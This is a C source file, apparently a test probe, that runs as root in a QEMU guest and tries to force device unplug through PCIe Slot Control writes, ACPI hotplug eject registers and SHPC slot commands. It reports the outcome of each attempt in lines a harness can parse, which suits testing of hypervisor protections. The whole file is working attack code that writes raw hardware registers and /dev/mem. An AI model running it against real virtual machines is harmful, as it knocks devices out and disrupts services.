/* What the guest's root can write to take devices from QEMU, past all that its kernel offers.
 *
 * attack slot-control  Slot Control of every PCIe port, in its config space: on, then off
 * attack acpi          the eject registers of ACPI PCI hotplug: every slot of every bus number
 * attack shpc          the standard hotplug controller of every bridge that has one, in BAR 0: enable, then disable
 *
 * For each thing attacked it prints "@@ attack kind=KIND target=ADDRESS result=done|refused|gone": refused if the kernel
 * does not let us, gone for what does not answer any more. The deepest come first, as what goes takes along all below.
 * If there is nothing to attack, the one line is "@@ attack kind=KIND target=- result=absent".
 */
#include <fcntl.h>
#include <glob.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#ifdef __x86_64__
#include <sys/io.h>
#endif

static const char *kind;
static int attacked;

static void say(const char *target, const char *result)
{
	printf("@@ attack kind=%s target=%s result=%s\n", kind, target, result);
	attacked += strcmp(result, "gone") != 0;
}

/* The offset of a capability in a bridge's configuration space, 0 for none. */
static unsigned capability(const uint8_t *config, uint8_t id)
{
	unsigned at = config[0x34] & ~3u, left = 48;

	for (; at >= 0x40 && left; at = config[at + 1] & ~3u, left--)
		if (config[at] == id)
			return at;
	return 0;
}

static int write16(int fd, unsigned at, uint16_t value)
{
	return pwrite(fd, &value, 2, at) == 2;
}

static void slot_control(const char *name, int fd, const uint8_t *config)
{
	unsigned express = capability(config, 0x10);

	if (!express || !(config[express + 3] & 1)) /* Slot Implemented */
		return;
	/* Power and its indicator on; then both off, which QEMU takes for the end of an unplug. No interrupts. */
	say(name, write16(fd, express + 0x18, 0x0100) && write16(fd, express + 0x18, 0x0700) ? "done" : "refused");
}

static void shpc(const char *name, int fd, const uint8_t *config)
{
	char path[128];
	unsigned long long start = 0;
	uint8_t *page = MAP_FAILED;
	FILE *list;
	int bar;

	if (!capability(config, 0x0c))
		return;
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource", name);
	list = fopen(path, "r");
	if (list) {
		if (fscanf(list, "%llx", &start) != 1)
			start = 0;
		fclose(list);
	}
	strcat(path, "0");
	bar = open(path, O_RDWR);
	if (start && bar >= 0 && write16(fd, 0x04, config[0x04] | config[0x05] << 8 | 2)) /* memory on */
		page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, bar, 0);
	if (page != MAP_FAILED) {
		volatile uint8_t *registers = page + (start & 0xfff);
		unsigned slot, slots = registers[0x0c] & 0x1f;

		for (slot = 1; slot <= slots; slot++) {
			*(volatile uint16_t *)(registers + 0x14) = slot << 8 | 0x06; /* enabled, indicator on */
			*(volatile uint16_t *)(registers + 0x14) = slot << 8 | 0x0f; /* disabled, indicator off */
		}
		munmap(page, 4096);
	}
	say(name, page != MAP_FAILED ? "done" : "refused");
	if (bar >= 0)
		close(bar);
}

static void bridges(void (*attack)(const char *name, int fd, const uint8_t *config))
{
	glob_t found;
	size_t left;

	if (glob("/sys/bus/pci/devices/*/config", 0, NULL, &found))
		return;
	for (left = found.gl_pathc; left; left--) {
		const char *path = found.gl_pathv[left - 1];
		uint8_t config[256];
		char name[16];
		int fd = open(path, O_RDWR);

		if (fd < 0)
			fd = open(path, O_RDONLY);
		snprintf(name, sizeof(name), "%.12s", path + strlen("/sys/bus/pci/devices/"));
		if (fd < 0 || pread(fd, config, sizeof(config), 0) != sizeof(config) || config[0] == 0xff)
			say(name, "gone");
		else if ((config[0x0e] & 0x7f) == 1)
			attack(name, fd, config);
		if (fd >= 0)
			close(fd);
	}
}

#ifdef __x86_64__
static void acpi(void)
{
	static const unsigned bases[] = { 0xcc0, 0xae00 };
	unsigned i, bus, slot;
	char name[16];

	if (iopl(3)) {
		say("-", "refused");
		return;
	}
	for (i = 0; i < 2; i++) {
		outl(0, bases[i] + 0x10);
		if (inl(bases[i] + 0x10))
			continue; /* nobody keeps the bus number there */
		for (bus = 0; bus < 256; bus++) {
			outl(bus, bases[i] + 0x10);
			for (slot = 0; slot < 32; slot++)
				outl(1u << slot, bases[i] + 0x08);
		}
		snprintf(name, sizeof(name), "0x%x", bases[i]);
		say(name, "done");
	}
}
#else
static sigjmp_buf nothing;

static void aborted(int number)
{
	(void)number;
	siglongjmp(nothing, 1);
}

static void acpi(void)
{
	const off_t base = 0x090c0000;
	unsigned bus, slot;
	volatile uint32_t *registers;
	int fd = open("/dev/mem", O_RDWR | O_SYNC);

	registers = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, base);
	if (registers == MAP_FAILED) {
		say("-", "refused");
		return;
	}
	signal(SIGBUS, aborted);
	if (sigsetjmp(nothing, 1))
		return;
	registers[4] = 0;
	if (registers[4])
		return;
	for (bus = 0; bus < 256; bus++) {
		registers[4] = bus;
		for (slot = 0; slot < 32; slot++)
			registers[2] = 1u << slot;
	}
	say("0x090c0000", "done");
}
#endif

int main(int argc, char **argv)
{
	kind = argc > 1 ? argv[1] : "";
	if (!strcmp(kind, "slot-control"))
		bridges(slot_control);
	else if (!strcmp(kind, "shpc"))
		bridges(shpc);
	else if (!strcmp(kind, "acpi"))
		acpi();
	else
		return 2;
	if (!attacked)
		printf("@@ attack kind=%s target=- result=absent\n", kind);
	return 0;
}
